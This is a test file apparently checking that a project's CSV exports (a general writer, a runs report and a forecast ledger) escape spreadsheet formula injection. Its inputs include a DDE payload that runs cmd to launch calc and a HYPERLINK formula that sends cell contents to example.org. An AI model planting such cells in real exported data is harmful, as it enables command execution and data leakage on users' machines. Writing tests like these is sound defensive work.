import {describe, expect, it} from "vitest";
import {ledgerCsv} from "../../models/ledger/csv.js";
import {csv} from "../../models/publish/csv.js";
import {runsCsv} from "../../src/lib/report/runs/csv.js";
import type {RunRow} from "../../src/lib/report/runs/rows.js";

/** The cells of a CSV text as a reader of RFC 4180 takes them. */
function cellsOf(text: string): string[] {
  return [...text.matchAll(/(?:^|,)(?:"((?:[^"]|"")*)"|([^,"]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? ""
  );
}

describe("a cell that a spreadsheet would compute", () => {
  it.each([
    '=cmd|" /C calc"!A0',
    '=HYPERLINK("http://example.org?x="&A1,"here")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)"
  ])("is shown as text: %j", (hostile) => {
    const text = csv(["town"], [[hostile]]).slice("town\r\n".length, -2);
    const [cell] = cellsOf(text);
    expect(cell).toBe(`'${hostile}`);
    expect(/[\t\r\n",;]/.test(hostile) === text.startsWith('"')).toBe(true);
    // A header is text like any other.
    expect(cellsOf(csv([hostile], []).slice(0, -2))[0]).toBe(`'${hostile}`);
  });

  it("cannot begin after a separator inside a text", () => {
    for (const separator of [",", ";", "\t", "\r\n", "\n"])
      expect(csv(["a"], [[`x${separator}=1+1`]])).toBe(`a\r\n"x${separator}=1+1"\r\n`);
    expect(csv(["a"], [['x",=1+1,"']])).toBe('a\r\n"x"",=1+1,"""\r\n');
  });

  it("leaves numbers, days and names as they are", () => {
    expect(csv(["a", "b", "c", "d"], [[-1.5, "2024-12-25T00:00Z", "Brest Métropole", null]])).toBe(
      "a,b,c,d\r\n-1.5,2024-12-25T00:00Z,Brest Métropole,\r\n"
    );
    expect(csv(["a", "b"], [[-1e21, Number.NaN]])).toBe("a,b\r\n-1e+21,\r\n");
  });

  it("is text in what a reader saves of the runs", () => {
    const run = {
      ...{runId: "@1", study: "tiny", candidate: "=1+1", status: "finished", startedAt: "2024", seconds: -1},
      ...{cpuSeconds: null, peakMemoryMB: null, metrics: {}, params: {"=k": "-x", depth: -2}, tags: {}},
      lineage: {commit: "+c", dataHash: "-d", codeHash: "e", seed: 1}
    };
    const row = {run, alias: undefined} as unknown as RunRow;
    expect(runsCsv([row]).split("\n")[1]).toBe("'@1,tiny,'=1+1,finished,,2024,-1,,,1,'+c,'-d,e,'-x,-2");
  });

  it("is text in the ledger too", () => {
    const text = ledgerCsv(
      [
        {
          origin: "2024-12-24T23:00:00.000Z",
          issuedAt: "2024-12-25T05:00:00.000Z",
          times: ["2024-12-25T00:00:00.000Z"],
          series: ["=cmd|' /C calc'!A0"],
          forecasts: [
            {
              ...{candidate: "@net", version: "+1", alias: "champion", runId: "1"},
              ...{value: [-3], lo80: [-4], hi80: [-2], lo95: [-5], hi95: [-1]}
            }
          ]
        } as unknown as Parameters<typeof ledgerCsv>[0][number]
      ],
      new Map()
    );
    const [, row] = text.split("\r\n");
    expect(cellsOf(row!)).toEqual([
      ...["2024-12-24T23:00:00.000Z", "2024-12-25T05:00:00.000Z", "'@net", "'+1", "champion"],
      ...["'=cmd|' /C calc'!A0", "2024-12-25T00:00:00.000Z", "-3", "-4", "-2", "-5", "-1"],
      ...["", "", "", "", "", ""]
    ]);
  });
});
